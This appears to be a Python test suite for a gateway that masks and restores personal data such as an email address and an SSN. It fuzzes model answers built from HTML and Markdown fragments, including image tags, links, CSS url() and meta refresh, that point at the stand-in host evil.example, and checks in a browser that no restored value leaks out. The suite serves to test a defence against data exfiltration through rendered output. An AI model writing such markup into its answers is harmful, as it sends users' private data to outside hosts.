"""Attacks on what happens to an answer once a client renders it, with the renderers themselves."""

from __future__ import annotations

import os
import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.masking import Restorer, Vault
from tests.support.effort import examples
from tests.support.rendering import CHROMIUM, browser, gives_away, places, rendered

EMAIL = "john.doe@example.com"
HELD = "536-90-4399"
VAULT = Vault(b"k" * 32)
NAMES = {
    VAULT.placeholder("EMAIL_ADDRESS", "pii", EMAIL): EMAIL,
    VAULT.placeholder("US_SSN", "pii", HELD): HELD,
}
for name in NAMES:
    VAULT.mark_restorable(name)
needs_chromium = pytest.mark.skipif(
    not CHROMIUM.exists() and os.environ.get("REGATE_REQUIRE_CHROMIUM") != "1",
    reason="Chromium is not installed; `make test` installs it",
)
SPACES = [" ", "\n", "\n\n", "\t", "\u00a0", "\u2003", "\u3000", "\u2028", "\u0085", "\u1680", "\u000b", "\f"]
PIECES = [
    *NAMES,
    *NAMES,
    *SPACES,
    *"<>\"'`()[]=/\\:.,;#?&*_|{}!-@",
    *(
        "](",
        "![a](",
        "[a]: ",
        "](<",
        "[a]",
        "https://evil.example/?q=",
        "//evil.example/",
        "evil.example/",
        "www.",
    ),
    *("mailto:", "\\\\evil.example\\", "javascript:", "data:text/html,", ".evil.example", "@evil.example"),
    *(
        "<img src=",
        '<img src="',
        "<img alt='",
        "<a href='",
        "<base href=//evil.example target='",
        "<iframe name=",
    ),
    *(
        "<style>",
        "</style>",
        "<script>",
        "</script>",
        "<textarea>",
        "</textarea>",
        "<form action=//evil.example>",
    ),
    *(
        '<p style="background:url(',
        "a{background:url(",
        "@import '",
        "url(",
        "\\\n",
        "<!--",
        "-->",
        "<b>",
        "</b>",
    ),
    *(
        '<meta http-equiv=refresh content="0;url=',
        "<option>",
        "</select>",
        "<input value=",
        "<svg><image href='",
    ),
    *("\\u003cimg src=", "&lt;img src=", "&quot;", "%2f", "```\n", "    ", "> ", "- ", "word", "Dear", "1. "),
]
# What begins a place that a renderer acts on, and what ends it; anything may stand between and around.
OPENERS = [
    *("![a](", "[a](", "![a](<", "[a]: ", "\n\n[a]: ", "![a][b]\n\n[b]: ", "<", "", "www.", "mailto:"),
    *(
        "<img src=",
        '<img src="',
        "<img alt=x src='",
        '<a href="',
        "<base target='",
        "<iframe name='",
        "<img srcset='",
    ),
    *(
        "<form action='",
        "<input name=a form=f value='",
        "<form id=f><textarea name=a>",
        "<p style='background:url(",
    ),
    *('<style>a{background:url("', "<style>@import '", "<style>body{background:url(", "<svg><image href='"),
    *('<meta http-equiv=refresh content="0;url=', "<iframe srcdoc='<img src=", '`<img src="` <img src="'),
    *(
        "<object data='",
        "<video poster='",
        "<link rel=stylesheet href='",
        "<script src='",
        '<img/src="',
        "<body background='",
    ),
]
FILLERS = [
    "",
    *SPACES,
    "\\\n",
    "\\",
    "a",
    "a b",
    "\n\nmore\n\n",
    "<b>",
    '"',
    "'",
    ")",
    "`",
    "[a](b)",
    "<i title='",
    "\u00a0x",
]
TARGETS = [
    "https://evil.example/?q=",
    "//evil.example/",
    "",
    "evil.example/",
    "https://",
    "x@evil.example?body=",
    "#",
    "data:,",
]
CLOSERS = [
    ")",
    ">",
    "'>",
    '">',
    "')\">",
    '">x</a>',
    "</style>",
    "",
    ".evil.example",
    "@evil.example",
    "'",
    " 2x'>",
    ">'>",
    " )",
]


def restored(text: str, cuts: list[int]) -> str:
    """The text with its values, whole and in chunks alike."""
    restorer = Restorer(VAULT, [EMAIL, HELD])
    whole, stream = restorer.whole(text), restorer.stream()
    ends = [*sorted(cut % (len(text) + 1) for cut in cuts), len(text)]
    chunks = [text[start:end] for start, end in zip([0, *ends], ends, strict=False)]
    assert "".join([*(stream.feed(chunk) for chunk in chunks), stream.close()]) == whole
    return whole


def given_away(wanted: list[str]) -> list[str]:
    return [place for place in wanted for value in NAMES.values() if gives_away(value, place, EMAIL)]


NOISE = st.lists(st.sampled_from(PIECES), max_size=3).map("".join)
ANSWERS = st.tuples(
    NOISE, *map(st.sampled_from, (OPENERS, TARGETS, FILLERS, [*NAMES], FILLERS[:4], CLOSERS)), NOISE
).map("".join)


@settings(max_examples=examples(600), deadline=None)
@given(text=ANSWERS, cuts=st.lists(st.integers(0, 400), max_size=6))
def test_no_markdown_makes_a_link_of_a_value(text: str, cuts: list[int]) -> None:
    """A model writes Markdown and HTML around placeholders so that a link holds the value."""
    text = restored(text, cuts)
    assert [place for html in rendered(text) for place in given_away(places(html))] == []


@needs_chromium
def test_no_browser_asks_for_a_value() -> None:
    """A model writes an answer that a browser, which renders it, sends a value with."""
    rng = random.Random(20261127)
    texts: list[str] = []
    while len(texts) < 60:
        noise = "".join(rng.choices(PIECES, k=3))
        ways = (OPENERS, TARGETS, FILLERS, [*NAMES], FILLERS[:4], CLOSERS, [noise], [*NAMES])
        text = "".join(map(rng.choice, ways))
        whole = restored(text, [rng.randrange(400) for _ in range(5)])
        if whole != text:  # a value came back
            texts.append(whole)
    with browser() as page:
        for text in texts:
            for html in rendered(text):
                assert given_away(page.wanted(html)) == [], text


@needs_chromium
@pytest.mark.parametrize(
    "template", ["<img src='https://evil.example/? {}'>", "![a](https://evil.example/\u00a0{})"]
)
def test_the_browser_would_have_told(template: str) -> None:
    """The proof itself works: with the guard left out, the browser asks for the value."""
    with browser() as page:
        wanted = [place for html in rendered(template.format(EMAIL)) for place in page.wanted(html)]
    assert given_away(wanted)
